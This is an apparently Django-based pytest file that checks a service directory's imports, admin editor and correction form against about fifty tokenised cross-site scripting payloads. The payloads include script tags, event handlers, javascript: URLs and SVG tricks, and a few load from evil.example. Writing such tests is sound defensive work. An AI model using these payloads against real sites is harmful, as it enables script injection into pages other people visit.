"""Hostile HTML from outside never reaches a public page, the admin or the API unescaped.

Each payload (OWASP cheat-sheet kinds: script, event handlers, ``javascript:`` and ``data:``
URLs, SVG and MathML, ``srcdoc``, CSS expressions, broken markup) carries its own token. It
goes in through the HSDS import, the CSV import, the admin's rich-text editor and the
visitors' correction form; then every page that shows it is read like a browser would: the
token may appear as text, never in an event handler, a URL, a style or a script. Before
this, ``x_description_html`` was stored raw and ``<script>`` reached the public pages.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.core.management import call_command

from api.csv_import import template
from directory.models import ListingPage, OrganisationPage
from partners.models import CorrectionSuggestion
from tests.api.test_import_export import new_service, write
from tests.partners.conftest import build_world, edit_form_data
from tests.partners.test_corrections import started

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('{t}')</script>",
    "<SCRIPT SRC=//evil.example/{t}.js></SCRIPT>",
    "<img src=x onerror=alert('{t}')>",
    "<IMG SRC=\"javascript:alert('{t}');\">",
    '<IMG SRC=`javascript:alert("{t}")`>',
    "<img srcset=\"x 1x, javascript:alert('{t}') 2x\">",
    "<svg onload=alert('{t}')>",
    "<svg><script>alert('{t}')</script></svg>",
    "<svg><animate onbegin=alert('{t}') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('{t}')\"><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert('{t}')></mtext></math>",
    "<body onload=alert('{t}')>",
    "<iframe src=\"javascript:alert('{t}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{t}')</script>\"></iframe>",
    "<object data=\"javascript:alert('{t}')\"></object>",
    "<embed src=\"javascript:alert('{t}')\">",
    "<a href=\"javascript:alert('{t}')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('{t}')\">x</a>",
    "<a href=\"  javascript:alert('{t}')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('{t}')\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('{t}')\">x</a>",
    "<a href=\"data:text/html,<script>alert('{t}')</script>\">x</a>",
    "<a href=\"vbscript:msgbox('{t}')\">x</a>",
    '<a href="https://example.org/" onmouseover="alert(\'{t}\')">ok</a>',
    '<a linktype="page" id="1" onclick="alert(\'{t}\')">x</a>',
    "<p onmouseover=\"alert('{t}')\">hover</p>",
    "<x onclick=alert('{t}')>click</x>",
    "<details open ontoggle=alert('{t}')>",
    "<video><source onerror=alert('{t}')></video>",
    "<audio src=x onerror=alert('{t}')>",
    "<input autofocus onfocus=alert('{t}')>",
    "<form action=\"javascript:alert('{t}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('{t}')\">x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{t}\')">',
    '<base href="//evil.example/{t}/">',
    '<link rel=stylesheet href="//evil.example/{t}.css">',
    "<style>body{{background:url('javascript:alert({t})')}}</style>",
    "<div style=\"background:url(javascript:alert('{t}'))\">css</div>",
    "<div style=\"width: expression(alert('{t}'))\">css</div>",
    "<table background=\"javascript:alert('{t}')\"><tr><td>x</td></tr></table>",
    "<!--<img src=\"--><img src=x onerror=alert('{t}')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{t}')>\"></noscript>",
    "<scr<script>ipt>alert('{t}')</scr</script>ipt>",
    "<<script>alert('{t}');//<</script>",
    "\"><script>alert('{t}')</script>",
    "'><img src=x onerror=alert('{t}')>",
    "</p><script>alert('{t}')</script><p>",
    "<template><script>alert('{t}')</script></template>",
    "<textarea><script>alert('{t}')</script></textarea>",
]
# Attributes whose value a browser shows or keeps as text.
TEXT_ATTRIBUTES = {"alt", "title", "aria-label", "placeholder", "value"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def harmless_link(tag: str, name: str, value: str) -> bool:
    """A link's address that a browser follows as a page address, never runs."""
    if tag != "a" or name != "href":
        return False
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value).lower())
    return scheme is None or scheme.group(1) in SAFE_SCHEMES


def token(n: int) -> str:
    return f"XSS{n:02d}Q"


class Inspector(HTMLParser):
    """Finds a token where a browser would run or load it."""

    def __init__(self, tokens):
        super().__init__(convert_charrefs=True)
        self.tokens = tokens
        self.code = None
        self.found = []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _value in attrs}
        for name, value in attrs:
            text_like = (
                name in TEXT_ATTRIBUTES
                # The site's scripts read data attributes as text only (see the test below).
                or name.startswith("data-")
                or (tag == "meta" and name == "content" and "http-equiv" not in names)
                or harmless_link(tag, name, value or "")
            )
            for tok in self.tokens:
                if value and tok in value and not text_like:
                    self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("script", "style"):
            kind = dict(attrs).get("type", "")
            self.code = None if kind in ("application/json", "application/ld+json") else tag

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == self.code:
            self.code = None

    def handle_data(self, data):
        if self.code:
            self.found += [f"<{self.code}> {data[:80]!r}" for tok in self.tokens if tok in data]


def dangerous(html: str, tokens) -> list[str]:
    inspector = Inspector(tokens)
    inspector.feed(html)
    inspector.close()
    return inspector.found


TOKENS = [token(n) for n in range(len(PAYLOADS))]


@pytest.fixture
def world(directory_page, django_user_model, client):
    """Partners, their listings, a coordinator and a superuser (German only)."""
    return build_world(directory_page, django_user_model, client, languages=False)


def payload_text(n: int) -> str:
    return "Beratung " + PAYLOADS[n].format(t=token(n)) + " Ende"


def assert_safe(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    found = dangerous(response.content.decode(), TOKENS)
    assert not found, f"{url}: {found[:3]}"
    return response


def test_the_site_scripts_never_turn_text_into_markup():
    """Data attributes count as text above because no script of the site writes markup."""
    scripts = sorted((settings.BASE_DIR / "static" / "js").glob("*.js"))
    assert scripts
    for script in scripts:
        code = script.read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
            assert sink not in code, f"{script.name} uses {sink}"


def test_there_are_at_least_forty_payloads():
    assert len(PAYLOADS) >= 40
    # The inspector itself finds each raw payload (except pure markup breakers).
    missed = [p for n, p in enumerate(PAYLOADS) if not dangerous(p.format(t=token(n)), TOKENS)]
    assert len(missed) <= 3, missed


def test_hsds_import_stores_no_hostile_html(tmp_path, directory_page, client, admin_client):
    records = []
    for n in range(len(PAYLOADS)):
        record = new_service(name=f"Angebot {token(n)} {PAYLOADS[n].format(t=token(n))}")
        record["x_description_html"] = f"<p>{payload_text(n)}</p>"
        record["organization"]["x_description_html"] = payload_text(n)
        records.append(record)
    call_command("import_hsds", str(write(tmp_path, records)), stdout=io.StringIO())
    listings = ListingPage.objects.filter(live=True)
    assert listings.count() == len(PAYLOADS)
    for listing in listings:
        assert_safe(client, listing.url)
        assert_safe(admin_client, f"/admin/pages/{listing.id}/edit/")
        api = client.get(f"/api/hsds/services/{listing.external_id}")
        assert api.status_code == 200
        data = api.json()
        assert not dangerous(data.get("x_description_html") or "", TOKENS), data["name"]
        # Plain-text fields (name) are JSON strings for the client to escape; HTML is clean.
        assert api["Content-Type"].startswith("application/json")
    for organisation in OrganisationPage.objects.filter(live=True):
        assert_safe(client, organisation.url)
    assert_safe(client, directory_page.url)
    assert_safe(client, "/de/suche/?q=Beratung")
    for listing in ListingPage.objects.all():
        for revision in listing.revisions.all():
            assert not dangerous(revision.content.get("description") or "", TOKENS)


def test_csv_import_stores_no_hostile_html(tmp_path, directory_page, client):
    reader = csv.DictReader(io.StringIO(template()))
    example = next(reader)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=reader.fieldnames)
    writer.writeheader()
    for n in range(len(PAYLOADS)):
        row = dict(example)
        row["name"] = f"Angebot {token(n)}"
        row["summary"] = PAYLOADS[n].format(t=token(n))[:300]
        row["description"] = payload_text(n)
        row["organization_name"] = f"Verein {PAYLOADS[n].format(t=token(n))}"[:200]
        writer.writerow(row)
    path = tmp_path / "hostile.csv"
    path.write_text(out.getvalue())
    call_command("import_csv", str(path), stdout=io.StringIO())
    listings = ListingPage.objects.filter(live=True)
    assert listings.count() == len(PAYLOADS)
    for listing in listings:
        assert_safe(client, listing.url)
    for organisation in OrganisationPage.objects.filter(live=True):
        assert_safe(client, organisation.url)


def contentstate(text: str, url: str) -> str:
    """What Draftail posts: one paragraph whose first word links to ``url``."""
    return json.dumps(
        {
            "blocks": [
                {
                    "key": "a1b2c",
                    "type": "unstyled",
                    "depth": 0,
                    "text": text,
                    "inlineStyleRanges": [],
                    "entityRanges": [{"offset": 0, "length": 8, "key": 0}],
                    "data": {},
                }
            ],
            "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": url}}},
        }
    )


@pytest.mark.parametrize("n", range(0, len(PAYLOADS), 7))
def test_rich_text_editing_stores_no_hostile_html(client, world, n):
    payload = PAYLOADS[n].format(t=token(n))
    url = f"javascript:alert('{token(n)}')" if n % 2 else payload
    data = edit_form_data(
        client, world.superuser, world.listing_a, description=contentstate(payload_text(n), url)
    )
    client.force_login(world.superuser)
    response = client.post(
        f"/admin/pages/{world.listing_a.id}/edit/", {**data, "action-publish": "1"}
    )
    assert response.status_code in (200, 302)
    listing = ListingPage.objects.get(id=world.listing_a.id)
    assert not dangerous(listing.description, TOKENS)
    assert_safe(client, listing.url)
    assert_safe(client, f"/admin/pages/{listing.id}/edit/")


def test_correction_form_messages_are_shown_as_text(client, world):
    for n in range(len(PAYLOADS)):
        response = client.post(
            f"/de/korrektur/{world.listing_a.id}/",
            {"message": PAYLOADS[n].format(t=token(n)), "started": started()},
            REMOTE_ADDR=f"203.0.113.{n % 250 + 1}",
        )
        assert response.status_code in (200, 302)
    assert CorrectionSuggestion.objects.count() == len(PAYLOADS)
    client.force_login(world.coordinator)
    assert_safe(client, "/admin/snippets/partners/correctionsuggestion/")
    for suggestion in CorrectionSuggestion.objects.all()[:10]:
        assert_safe(client, f"/admin/snippets/partners/correctionsuggestion/edit/{suggestion.pk}/")
